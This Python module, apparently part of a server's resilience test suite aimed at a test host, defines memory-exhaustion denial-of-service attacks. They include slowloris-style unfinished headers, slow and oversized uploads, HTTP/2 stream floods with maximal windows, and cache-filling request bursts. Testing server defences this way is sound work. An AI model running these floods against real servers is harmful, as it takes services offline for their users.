"""Ways to want memory.

All connections are there before any is used: who turns away new ones has not got rid of these.
"""

import threading
from collections.abc import Callable
from dataclasses import dataclass

from h2abuse.frames import (
    DATA,
    END_HEADERS,
    INITIAL_WINDOW_SIZE,
    LARGEST_WINDOW,
    PREFACE,
    SETTINGS,
    fields,
    frame,
    get,
    headers,
    post,
    setting,
    window_update,
)
from support.client import NOT_NOW

HOST = b" HTTP/1.1\r\nHost: site.test\r\n"
#: Bytes of a system's buffer that has little room.
LITTLE_ROOM = 4096
#: The window of a connection at its beginning.
FIRST_WINDOW = 65535
#: Bytes of content that no buffer on the way has room for.
LARGE = 32 << 20


def send_at_once(connection, raw):
    """Sends as much as goes without waiting for anybody."""
    connection.setblocking(False)
    rest = memoryview(raw)
    try:
        while rest:
            rest = rest[connection.send(rest) :]
    except (*NOT_NOW, OSError):
        # No room, or no connection: either way it was too much.
        return


@dataclass(frozen=True)
class Attack:
    """So many connections; each is sent the same and none is read, unless it says how they are used."""

    name: str
    connections: int
    raw: bytes = b""
    protocol: str = "http/1.1"
    receive_buffer: int | None = LITTLE_ROOM
    #: Takes the connections.
    use: Callable | None = None

    def open(self, stage):
        """Those that were not refused."""
        opened = []
        for _ in range(self.connections):
            try:
                opened.append(stage.encrypted.open(5.0, self.protocol, self.receive_buffer))
            except OSError:
                continue
        return opened

    def begin(self, connections):
        """Uses what `open` has returned."""
        if self.use:
            self.use(connections)
            return
        for connection in connections:
            send_at_once(connection, self.raw)


#: Bytes of objects that are asked for one after the other, and of all that are asked for.
SIZES, ALL_OBJECTS = (1 << 12, 1 << 14, 1 << 16, 1 << 18, 1 << 20), 400 << 20


def _ask_for_objects(connections):
    """Each object once, all connections at the same time."""
    each = ALL_OBJECTS // sum(SIZES) // max(1, len(connections))
    threads = [
        threading.Thread(target=_ask_for_some, args=(connection, place, each), daemon=True)
        for place, connection in enumerate(connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _ask_for_some(connection, place, rounds):
    answers = connection.makefile("rb")
    for number in range(rounds):
        for size in SIZES:
            request = b"GET /stored-%d/%d-%d" % (size, place, number) + HOST + b"\r\n"
            try:
                connection.sendall(request)
                if not is_answered(answers):
                    return
            except OSError:
                return


def is_answered(answers):
    """Whether a whole answer came, whatever it says."""
    length, line = 0, answers.readline()
    while line.strip():
        name, _, value = line.partition(b":")
        length = int(value) if name.lower() == b"content-length" else length
        line = answers.readline()
    return bool(line) and len(answers.read(length)) == length


def _opened(settings=b"", window=0):
    """How a connection of HTTP/2 begins."""
    begun = PREFACE + frame(SETTINGS, payload=settings)
    return begun + window_update(0, window) if window else begun


def _streams(count, one):
    return b"".join(one(2 * place + 1) for place in range(count))


def _uploading(stream):
    head = headers(stream, post(b"/early/h2") + fields((b"content-length", b"10000000")), END_HEADERS)
    return head + frame(DATA, 0, stream, bytes(16_384)) * 4


#: As much as is kept of one response where the cache has 64 MiB.
STORED = "/stored-7340032/same"
_ASKING = _streams(100, lambda stream: headers(stream, get(STORED.encode())))
_OPEN_WINDOW = _opened(setting(INITIAL_WINDOW_SIZE, LARGEST_WINDOW), LARGEST_WINDOW - FIRST_WINDOW)
#: 25 KiB of fields, and no end of them.
_HALF_HEAD = b"GET /half" + HOST + b"".join(b"X-%02d: " % n + b"a" * 500 + b"\r\n" for n in range(50))
_SLOW_UPLOAD = b"POST /slow" + HOST + b"Content-Length: 99999\r\n\r\n" + bytes(60_000)
_UPLOAD = b"POST /early/h1" + HOST + b"Content-Length: %d\r\n\r\n" % LARGE + bytes(LARGE)

OBJECTS = Attack("objects", 8, receive_buffer=None, use=_ask_for_objects)
STREAMS = Attack("streams", 1000, _opened() + _ASKING, "h2")
STREAMS_WITH_WINDOW = Attack("streams with window", 600, _OPEN_WINDOW + _ASKING, "h2")
HALF_HEADS = Attack("half heads", 4000, _HALF_HEAD)
SLOW_UPLOADS = Attack("slow uploads", 800, _SLOW_UPLOAD)
RESPONSES = Attack("responses", 600, b"GET /large-%d/same" % LARGE + HOST + b"\r\n")
UPLOADS = Attack("uploads", 400, _UPLOAD)
H2_UPLOADS = Attack("h2 uploads", 300, _opened() + _streams(20, _uploading), "h2")
